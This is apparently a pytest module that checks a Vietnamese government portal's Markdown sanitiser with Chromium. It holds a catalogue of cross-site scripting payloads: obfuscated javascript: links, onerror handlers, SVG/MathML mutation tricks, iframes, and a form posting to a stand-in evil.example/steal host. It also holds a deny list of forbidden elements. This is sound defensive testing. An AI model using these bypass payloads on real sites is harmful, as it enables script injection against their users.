"""Hostile Markdown and HTML in articles never runs, loads or navigates anything in a browser.

Every payload, if it ever ran, would set ``window.__pwned``, change ``document.title``, open a
dialog, reach ``evil.example`` or load the local ``/pwn.js``, or navigate (to ``javascript:``,
``data:`` or anywhere else). Each payload gets its own article. Chromium opens it, hovers and
focuses every element, clicks every link and control in the article, and watches for any of those
effects; the same pages are checked as parsed HTML too. A benign article proves the sanitiser
keeps what it should (https, mailto, tel and site-relative links, an image with its alt text), so
these tests fail if sanitising ever degenerates into dropping everything.

The hostile site is built once per test process and the Chromium checks share one watching
context, one test per payload (so that workers share them out).
"""

from __future__ import annotations

import re
import struct
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup

from portal.build import build
from portal.errors import ContentErrors
from support import DEMO_NOW, SETTINGS, SITES_YML, article, write_tree

# One worker runs the module: the hostile site is built once per run.
pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("hostile-markdown")]

SITE = "huyen"
SITE_NAME = "Ủy ban nhân dân huyện Thử Nghiệm"  # tests/conftest.py SITES_YML
EVIL = "https://evil.example"
# What every payload would do if it ran.
PWN = "window.__pwned=1;document.title='PWNED';alert(1)"
PWN_JS = "window.__pwned=1;document.title='PWNED';alert('pwn.js');\n"

BENIGN_HTTPS = "https://www.chinhphu.vn/"
BENIGN_MAILTO = "mailto:vp@huyen.example"
BENIGN_TEL = "tel:+842700000000"
BENIGN_SOURCE_LINK = "/tin-tuc/tin-lanh/"  # authors write site-absolute paths …
BENIGN_RELATIVE = f"/{SITE}/tin-tuc/tin-lanh/"  # … served under /<site-id>/ in development
BENIGN_ALT = "Ảnh minh họa trụ sở"
BENIGN_SLUG = "tin-lanh"

# name → Markdown body (the payload sits between two plain paragraphs).
PAYLOADS: dict[str, str] = {
    "script-inline": f"<script>{PWN}</script>",
    "script-inline-mixed-case": f"<ScRiPt>{PWN}</sCrIpT>",
    "script-src-remote": f'<script src="{EVIL}/pwn.js"></script>',
    "script-src-local": '<script src="/pwn.js"></script>',
    "script-nested-tags": f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    "img-onerror": f'<img src=/x onerror="{PWN}">',
    "img-onerror-uppercase": f'<IMG SRC=/x ONERROR="{PWN}">',
    "img-markdown-alt-breakout": '![a" onerror="window.__pwned=1](/x.png)',
    "a-javascript": f'<a href="javascript:{PWN}">bấm vào đây</a>',
    "a-javascript-entity": '<a href="&#106;avascript:window.__pwned=1">thực thể thập phân</a> '
    '<a href="&#x6A;avascript&colon;window.__pwned=1">thực thể hex</a> '
    '<a href="&#0000106&#0000097vascript:window.__pwned=1">thực thể không dấu chấm phẩy</a>',
    "a-javascript-mixed-case": '<a href="JaVaScRiPt:window.__pwned=1">chữ hoa thường</a>',
    "a-javascript-whitespace": '<a href="java&#x09;script:window.__pwned=1">tab</a> '
    '<a href="java&Tab;script:window.__pwned=1">Tab</a> '
    '<a href="java&NewLine;script:window.__pwned=1">xuống dòng</a> '
    '<a href="java\nscript:window.__pwned=1">xuống dòng thật</a> '
    '<a href=" javascript:window.__pwned=1">khoảng trắng đầu</a> '
    '<a href="&#x01;javascript:window.__pwned=1">ký tự điều khiển</a>',
    "a-onclick": f'<a href="#" onclick="{PWN}">onclick</a> '
    f'<a href="https://www.chinhphu.vn/" onmouseover="{PWN}">onmouseover</a>',
    "markdown-link-javascript": "[bấm vào đây](javascript:window.__pwned=1) "
    "[hoa thường](JaVaScRiPt:alert%281%29) <javascript:window.__pwned=1>\n\n"
    "[tham chiếu][r]\n\n[r]: javascript:window.__pwned=1",
    "markdown-link-title-breakout": '[x](https://www.chinhphu.vn/ "\\" onmouseover=\\"alert(1)")',
    "data-links": "[dữ liệu](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
    '<a href="data:text/html,<script>window.opener.__pwned=1;alert(1)</script>">data html</a> '
    '<a href="DATA:text/html,<script>alert(1)</script>">DATA</a> '
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    "onload='alert(1)'/>\">",
    "svg-onload": f'<svg onload="{PWN}"><circle r="10"/></svg>',
    "svg-script": f"<svg><script>{PWN}</script></svg>",
    "svg-link-and-animate": '<svg><a xlink:href="javascript:window.__pwned=1"><text x="0" y="15">'
    'svg link</text></a><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/>'
    '<set attributeName="onmouseover" to="alert(1)"/></svg>',
    "iframe": f'<iframe src="{EVIL}/"></iframe> '
    '<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe> '
    '<iframe src="javascript:parent.__pwned=1"></iframe>',
    "object": f'<object data="{EVIL}/x.swf"></object> '
    '<object data="data:text/html,<script>parent.__pwned=1</script>"></object>',
    "embed": f'<embed src="{EVIL}/x.swf"> <embed src="javascript:window.__pwned=1">',
    "form": f'<form action="{EVIL}/steal" method="post"><input name="q" value="x" autofocus '
    f'onfocus="{PWN}"><button formaction="javascript:window.__pwned=1">Gửi</button>'
    '<input type="submit" value="Gửi 2"></form>',
    "style-element": f"<style>@import url({EVIL}/x.css); "
    f"body {{ background: url({EVIL}/bg.png) }}</style>",
    "style-attribute": f'<p style="background:url({EVIL}/bg.png)">nền</p> '
    f'<div style="width:expression(alert(1))">biểu thức</div>',
    "link-stylesheet": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "math-mxss": f'<math><mtext><table><mglyph><style><img src=/x onerror="{PWN}">',
    "math-href": '<math href="javascript:window.__pwned=1"><mi>bấm</mi></math> '
    '<math><maction actiontype="statusline" xlink:href="javascript:window.__pwned=1">'
    "<mtext>maction</mtext></maction></math>",
    "details-ontoggle": f'<details open ontoggle="{PWN}"><summary>Chi tiết</summary>'
    "nội dung</details>",
    "body-onload": f'<body onload="{PWN}">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "meta-refresh-javascript": '<meta http-equiv="refresh" '
    'content="0;url=javascript:window.__pwned=1">',
    "meta-refresh-data": '<meta http-equiv="refresh" '
    'content="0;url=data:text/html,<script>alert(1)</script>">',
    "base-href": f'<base href="{EVIL}/">\n\n[tin cùng trang](/tin-tuc/)',
    "event-handlers-misc": f'<div onmouseover="{PWN}">rê chuột vào đây</div> '
    f'<span tabindex="0" onfocus="{PWN}">tiêu điểm</span> '
    f'<input autofocus onfocus="{PWN}"> <marquee onstart="{PWN}">chạy</marquee> '
    f'<video><source onerror="{PWN}"></video> <audio src=/x onerror="{PWN}"></audio>',
    "comment-and-noscript-mxss": '<!--><img src=/x onerror="window.__pwned=1">--> '
    '<noscript><p title="</noscript><img src=/x onerror=window.__pwned=1>"></noscript>',
    "second-h1": "# Tiêu đề cấp một trong bài\n\n<h1>Thẻ h1 trong bài</h1>",
    "textarea-title-breakout": "<textarea></textarea><img src=/x onerror=window.__pwned=1>"
    '<title></title><img src=/x onerror="window.__pwned=1"></title>',
}

# Front matter is escaped by the templates, not sanitised: it must appear as text.
HOSTILE_TITLE = "<script>window.__pwned=1</script><img src=/x onerror='window.__pwned=1'>"

# fmt: off
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcdoc",
    "srcset", "cite", "longdesc",
}
FORBIDDEN_ELEMENTS = [
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "svg", "math", "style", "base", "noscript", "template",
    "details", "marquee", "video", "audio", "source",
]
# fmt: on
HIDDEN_CHARS = re.compile(r"[\t\n\r]")


def tiny_png() -> bytes:
    """A valid 1×1 white PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
        + chunk(b"IEND", b"")
    )


def normalised_url(value: str) -> str:
    """A URL as a browser reads its scheme: tabs/newlines removed, leading controls stripped."""
    return HIDDEN_CHARS.sub("", value).lstrip("".join(map(chr, range(0x21)))).lower()


def payload_title(name: str) -> str:
    return f"Thử tấn công {name}"


@dataclass
class HostileSite:
    output: Path
    pages: dict[str, str] = field(default_factory=dict)  # name → site path ("/huyen/…/")
    titles: dict[str, str] = field(default_factory=dict)  # name → expected document.title


def build_hostile_site(root: Path) -> HostileSite:
    files: dict[str, str | bytes] = {
        f"{SITE}/articles/files/anh.png": tiny_png(),
        f"{SITE}/articles/tin-lanh.md": article(
            "Tin lành mạnh",
            f"Mở đầu tin lành.\n\n[Cổng Chính phủ]({BENIGN_HTTPS}) · [thư]({BENIGN_MAILTO}) · "
            f"[điện thoại]({BENIGN_TEL}) · [tin liên quan]({BENIGN_SOURCE_LINK})\n\n"
            f"![{BENIGN_ALT}](files/anh.png)\n\nKết thúc tin lành.",
            slug=BENIGN_SLUG,
        ),
        f"{SITE}/articles/tieu-de-doc.md": article(
            HOSTILE_TITLE.replace('"', "'"),
            "Mở đầu tieu-de-doc.",
            slug="tieu-de-doc",
            summary="\"<img src=/x onerror='window.__pwned=1'>\"",
            unit="\"<b onmouseover='window.__pwned=1'>Phòng</b>\"",
            tags="[\"<svg onload='window.__pwned=1'>x</svg>\"]",
            authors='["<script>window.__pwned=1</script>"]',
        ),
    }
    for name, payload in PAYLOADS.items():
        body = f"Mở đầu {name}.\n\n{payload}\n\nKết thúc {name}."
        files[f"{SITE}/articles/{name}.md"] = article(
            payload_title(name), body, slug=f"tan-cong-{name}"
        )
    content = write_tree(root / "content", {"sites.yml": SITES_YML, **files})
    (content / "xa").mkdir()
    output = root / "output"
    build(content, output, SETTINGS, now=DEMO_NOW)
    # If a <script src="/pwn.js"> ever survived, this is what it would load.
    (output / "pwn.js").write_text(PWN_JS, encoding="utf-8")
    (output / SITE / "pwn.js").write_text(PWN_JS, encoding="utf-8")
    site = HostileSite(output)
    for name in PAYLOADS:
        site.pages[name] = f"/{SITE}/tin-tuc/tan-cong-{name}/"
        site.titles[name] = f"{payload_title(name)} – {SITE_NAME}"
    site.pages["tieu-de-doc"] = f"/{SITE}/tin-tuc/tieu-de-doc/"
    site.titles["tieu-de-doc"] = f"{HOSTILE_TITLE} – {SITE_NAME}"
    site.pages["tin-lanh"] = f"/{SITE}/tin-tuc/{BENIGN_SLUG}/"
    site.titles["tin-lanh"] = f"Tin lành mạnh – {SITE_NAME}"
    return site


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> HostileSite:
    """The hostile articles built once per worker (read only by the tests), as the
    ``make_content`` and ``build_into`` fixtures would build them."""
    return build_hostile_site(tmp_path_factory.mktemp("hostile"))


def soup_of(output: Path, site_path: str) -> BeautifulSoup:
    html = (output / site_path.strip("/") / "index.html").read_text(encoding="utf-8")
    return BeautifulSoup(html, "html.parser")


# -- parsed HTML ---------------------------------------------------------------------------------


THEME_SCRIPT = re.compile(rf"^/{SITE}/theme/js/portal\.[0-9a-f]{{10}}\.js$")
THEME_ASSET = re.compile(rf"^/{SITE}/theme/(css|images)/[a-z-]+\.[0-9a-f]{{10}}\.(css|svg)$")
CHROME_META = {None, "viewport", "description", "theme-color", "robots"}


FEED_TYPES = ("application/feed+json", "application/atom+xml", "text/calendar")
FEED_LINK = re.compile(rf"^/{SITE}/([a-z0-9-]+/)*(feed(-[0-9]+)?\.json|atom\.xml|lich\.ics)$")


def remove_theme_chrome(soup: BeautifulSoup) -> list[str]:
    """Take out the theme's own controls, each checked strictly (its one script file, the search
    form, the menu and print buttons), so what remains came from content and must be inert."""
    problems = []
    for tag in soup.find_all("script"):
        if set(tag.attrs) <= {"src", "defer"} and THEME_SCRIPT.match(tag.get("src", "")):
            if tag.string and tag.string.strip():
                problems.append(f"theme script with inline code: {str(tag)[:80]}")
            tag.decompose()
    for form in soup.select("form.pt-search"):
        if form.find_parent(class_="pt-prose") or form.find_parent("article"):
            continue  # never in content: left for the checks below
        if form.get("action") == f"/{SITE}/tim-kiem/" and form.get("method") == "get":
            form.decompose()
    theme_buttons = (
        "button.pt-nav__toggle, button.pt-nav__expand, .pt-actions > button[data-pt-print]"
    )
    for button in soup.select(theme_buttons):
        if button.get("type") == "button" and not button.find_parent(class_="pt-prose"):
            button.decompose()
    for tag in soup.find_all("link"):
        rel, href = tag.get("rel"), tag.get("href", "")
        if (
            (rel in (["stylesheet"], ["icon"]) and THEME_ASSET.match(href))
            or (rel in (["canonical"], ["alternate"]) and href.startswith("https://huyen.example/"))
            or (  # the site's own feeds and calendar, announced in <head>
                rel == ["alternate"]
                and tag.get("type") in FEED_TYPES
                and FEED_LINK.match(href)
                and tag.find_parent("head") is not None
            )
        ):
            tag.decompose()
    return problems


def html_problems(soup: BeautifulSoup) -> list[str]:
    """Everything in a built page that could run script, load from elsewhere or navigate."""
    problems = remove_theme_chrome(soup)
    for tag in soup.find_all(FORBIDDEN_ELEMENTS):
        problems.append(f"<{tag.name}> element: {str(tag)[:80]}")
    headings = soup.find_all("h1")
    if len(headings) != 1:
        problems.append(f"{len(headings)} <h1> elements, expected the page title only")
    titles = soup.find_all("title")
    if len(titles) != 1 or titles[0].parent.name != "head":
        problems.append(f"{len(titles)} <title> elements, expected one in <head>")
    for tag in soup.find_all("meta"):
        if set(tag.attrs) - {"charset", "name", "content"} or tag.get("name") not in CHROME_META:
            problems.append(f"unexpected meta: {tag}")
    for tag in soup.find_all("link"):
        problems.append(f"unexpected link: {tag}")
    for tag in soup.find_all(True):
        for attr, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if attr.lower().startswith("on"):
                problems.append(f"event handler {attr}= on <{tag.name}>")
            if attr.lower() == "style":
                problems.append(f"style= on <{tag.name}>")
            if "evil.example" in text:
                problems.append(f"{attr}= on <{tag.name}> reaches evil.example: {text[:80]}")
            if attr.lower() in URL_ATTRIBUTES and normalised_url(text).startswith(
                ("javascript:", "data:", "vbscript:")
            ):
                problems.append(f"{attr}= on <{tag.name}> is a script/data URL: {text[:80]}")
            if attr.lower() in ("srcdoc", "formaction", "xlink:href", "action"):
                problems.append(f"{attr}= on <{tag.name}>")
    return problems


def test_built_pages_hold_no_active_content(hostile_site):
    problems = []
    for name, path in hostile_site.pages.items():
        soup = soup_of(hostile_site.output, path)
        body = soup.find("article")
        assert body is not None, f"{path}: no <article>"
        opening = "Mở đầu tin lành." if name == "tin-lanh" else f"Mở đầu {name}."
        assert opening in body.get_text(), f"{path}: the article body is missing"
        problems += [f"{name}: {p}" for p in html_problems(soup)]
    # The listings repeat titles and summaries: they must stay inert too.
    for listing in (f"/{SITE}/", f"/{SITE}/tin-tuc/", f"/{SITE}/tin-tuc/trang-2/"):
        soup = soup_of(hostile_site.output, listing)
        problems += [f"{listing}: {p}" for p in html_problems(soup)]
    assert not problems, "active content survived:\n" + "\n".join(problems)


def test_benign_markup_is_kept(hostile_site):
    """The control: the sanitiser must not throw the baby out with the bath water."""
    body = soup_of(hostile_site.output, hostile_site.pages["tin-lanh"]).find("article")
    hrefs = {a["href"] for a in body.find_all("a", href=True)}
    for href in (BENIGN_HTTPS, BENIGN_MAILTO, BENIGN_TEL, BENIGN_RELATIVE):
        assert href in hrefs, f"benign link {href} was dropped; links kept: {sorted(hrefs)}"
    images = body.find_all("img", alt=BENIGN_ALT)
    assert len(images) == 1, f"the image with alt text was dropped: {body.find_all('img')}"
    src = images[0]["src"]
    assert src == "anh.png", src  # published beside the page
    assert (hostile_site.output / SITE / "tin-tuc" / BENIGN_SLUG / src).read_bytes()[:4] == (
        b"\x89PNG"
    )
    # Front matter is shown as text, not markup.
    soup = soup_of(hostile_site.output, hostile_site.pages["tieu-de-doc"])
    assert soup.find("h1").get_text() == HOSTILE_TITLE
    assert soup.title.get_text() == hostile_site.titles["tieu-de-doc"]


def test_raw_tab_javascript_link_is_rejected_or_inert(make_content, build_into):
    """A literal tab inside ``java\\tscript:``: Markdown expands tabs to spaces, which turns the
    href into a relative file reference the build rejects; if it ever built, it must be inert."""
    body = 'Mở đầu.\n\n<a href="java\tscript:window.__pwned=1">tab thật</a>'
    content = make_content({f"{SITE}/articles/tab.md": article("Tab", body, slug="tab")})
    try:
        output = build_into(content)
    except ContentErrors:
        return
    soup = soup_of(output, f"/{SITE}/tin-tuc/tab/")
    assert not html_problems(soup)
    for a in soup.find_all("a", href=True):
        assert "script:" not in normalised_url(a["href"]).replace(" ", ""), a


# -- in Chromium ---------------------------------------------------------------------------------

# Every link and control of the article except the template's own category link in the byline.
CLICKABLE = (
    "article .pt-prose a, article .pt-prose button, article .pt-prose input, "
    "article .pt-prose summary, article .pt-prose [onclick]"
)
OBSERVE = 100  # ms to let handlers, refreshes and image errors happen

MARKERS_JS = """() => ({
  pwned: typeof window.__pwned === 'undefined' ? null : String(window.__pwned),
  openerPwned: window.opener && typeof window.opener.__pwned !== 'undefined',
  title: document.title,
  frames: window.frames.length,
})"""

HOVER_TARGETS_JS = """() => Array.from(document.querySelectorAll('article, article *'))
  .map(el => el.getBoundingClientRect())
  .filter(r => r.width > 0 && r.height > 0)
  .map(r => [r.left + r.width / 2, r.top + r.height / 2])"""

FOCUS_ALL_JS = """() => {
  for (const el of document.querySelectorAll('article, article *')) {
    try { el.focus(); el.blur(); } catch (e) {}
  }
}"""


class Watch:
    """One browser context that records every effect a payload could have."""

    def __init__(self, browser, base_url: str):
        self.base = urlsplit(base_url)
        self.findings: list[str] = []
        self.context = browser.new_context(viewport={"width": 1280, "height": 3000})
        self.context.route("**/*", self._route)
        self.page = self.context.new_page()
        self._wire(self.page)
        self.context.on("page", self._on_page)  # any later page is a popup

    def _local(self, url: str) -> bool:
        parts = urlsplit(url)
        return parts.scheme == self.base.scheme and parts.netloc == self.base.netloc

    def _route(self, route) -> None:
        url = route.request.url
        if self._local(url):
            route.continue_()
            return
        if url != BENIGN_HTTPS:  # the one external link the benign article has us click
            self.findings.append(f"request to another host: {url}")
        route.abort()

    def _on_page(self, page) -> None:
        self.findings.append(f"a new window/tab opened: {page.url}")
        self._wire(page)

    def _wire(self, page) -> None:
        def on_dialog(dialog) -> None:
            self.findings.append(f"dialog {dialog.type}: {dialog.message!r}")
            dialog.dismiss()

        def on_navigated(frame) -> None:
            scheme = urlsplit(frame.url).scheme.lower()
            if scheme in ("javascript", "data", "vbscript", "blob"):
                self.findings.append(f"navigation to {frame.url[:100]}")
            elif frame != page.main_frame and frame.url not in ("about:blank", "about:srcdoc"):
                self.findings.append(f"a frame loaded {frame.url[:100]}")

        def on_request(request) -> None:
            if urlsplit(request.url).scheme.lower() in ("data", "javascript", "blob") and (
                request.is_navigation_request() or request.resource_type in ("script", "document")
            ):
                self.findings.append(f"{request.resource_type} request to {request.url[:100]}")

        page.on("dialog", on_dialog)
        page.on("framenavigated", on_navigated)
        page.on("request", on_request)

    def check_markers(self, where: str, title: str | None) -> None:
        page = self.page
        for frame in page.frames:
            try:
                markers = frame.evaluate(MARKERS_JS)
            except Exception as exc:  # a navigating frame; the URL checks report it
                self.findings.append(f"{where}: could not read markers ({exc.__class__.__name__})")
                continue
            if markers["pwned"] is not None or markers["openerPwned"]:
                self.findings.append(f"{where}: window.__pwned is set in {frame.url[:80]}")
            if "PWNED" in markers["title"]:
                self.findings.append(f"{where}: document.title changed to {markers['title']!r}")
        if title is not None and page.title() != title:
            self.findings.append(f"{where}: title is {page.title()!r}, expected {title!r}")
        if len(page.frames) != 1:
            self.findings.append(f"{where}: {len(page.frames) - 1} frame(s) in the page")

    def load(self, url: str) -> None:
        response = self.page.goto(url, wait_until="load")
        if response is None or response.status != 200:
            self.findings.append(f"{url}: HTTP {response and response.status}")

    def visit(self, url: str, title: str | None) -> None:
        """Load, hover every element, focus every element, tab around; then look."""
        page = self.page
        self.load(url)
        try:
            for x, y in page.evaluate(HOVER_TARGETS_JS):
                page.mouse.move(x, y)
            page.evaluate(FOCUS_ALL_JS)
            for _ in range(6):
                page.keyboard.press("Tab")
        except Exception as exc:  # the page navigated away under our feet
            self.findings.append(f"{url}: the page changed while hovering/focusing ({exc})")
        page.wait_for_timeout(OBSERVE)
        if page.url != url:
            self.findings.append(f"{url}: left the page by itself, now at {page.url[:100]}")
            title = None
        self.check_markers(url, title)

    def click_everything(self, url: str, title: str) -> None:
        """Click each link/control of the article (reloading the page whenever a click left it)."""
        page = self.page
        count = page.locator(CLICKABLE).count()
        for index in range(count):
            if page.url != url:
                self.load(url)
            target = page.locator(CLICKABLE).nth(index)
            label = target.evaluate("el => el.outerHTML.slice(0, 80)")
            href = target.get_attribute("href")
            if target.bounding_box():
                try:
                    target.click(force=True, timeout=2000)
                except Exception:  # fall back to a DOM click
                    target.evaluate("el => el.click()")
            else:
                target.evaluate("el => el.click()")
            page.wait_for_timeout(OBSERVE)
            now = page.url
            scheme = urlsplit(now).scheme
            if scheme in ("javascript", "data", "vbscript", "blob"):
                self.findings.append(f"{url}: clicking {label} navigated to {now[:100]}")
            elif scheme in ("http", "https") and not self._local(now) and href != BENIGN_HTTPS:
                self.findings.append(f"{url}: clicking {label} left the site for {now[:100]}")
            stayed = now == url or now.startswith(url + "#")
            self.check_markers(f"{url} after clicking {label}", title if stayed else None)

    def close(self) -> None:
        self.context.close()


@pytest.fixture(scope="module")
def watch(hostile_site, browser, shared_server):
    """One watching context for the module's Chromium tests, on the hostile site served
    without CSP: the sanitiser alone must stop every payload (the CSP is a second wall).
    Each test reads the findings made from its own start."""
    base_url = shared_server(hostile_site.output, csp=False)
    watch = Watch(browser, base_url)
    watch.base_url = base_url
    try:
        yield watch
    finally:
        watch.close()


@pytest.mark.parametrize("name", [*PAYLOADS, "tieu-de-doc", "tin-lanh"])
def test_payload_never_runs_in_chromium(hostile_site, watch, name):
    """Load, hover, focus, tab; then click each link and control of the article."""
    start = len(watch.findings)
    url = watch.base_url + hostile_site.pages[name]
    watch.visit(url, hostile_site.titles[name])
    watch.click_everything(url, hostile_site.titles[name])
    findings = [f"[{name}] {f}" for f in watch.findings[start:]]
    assert not findings, "a payload had an effect in Chromium:\n" + "\n".join(findings)


def test_listings_of_payloads_never_run_in_chromium(watch):
    """The listings repeat the hostile titles and summaries."""
    start = len(watch.findings)
    for listing in (f"/{SITE}/", f"/{SITE}/tin-tuc/", f"/{SITE}/tin-tuc/trang-2/"):
        watch.visit(watch.base_url + listing, None)
    findings = watch.findings[start:]
    assert not findings, "a payload had an effect in Chromium:\n" + "\n".join(findings)


def test_the_watch_sees_an_effect(watch):
    """The page the benign relative link leads to exists, and the checks themselves work: a
    deliberately set marker and dialog are seen."""
    start = len(watch.findings)
    watch.load(watch.base_url + BENIGN_RELATIVE)
    assert not watch.findings[start:], watch.findings[start:]
    watch.page.evaluate(f"() => {{ {PWN} }}")
    watch.check_markers("self-test", None)
    self_test = watch.findings[start:]
    del watch.findings[start:]
    assert any("window.__pwned" in f for f in self_test), self_test
    assert any("dialog" in f for f in self_test), self_test
    assert any("PWNED" in f for f in self_test), self_test
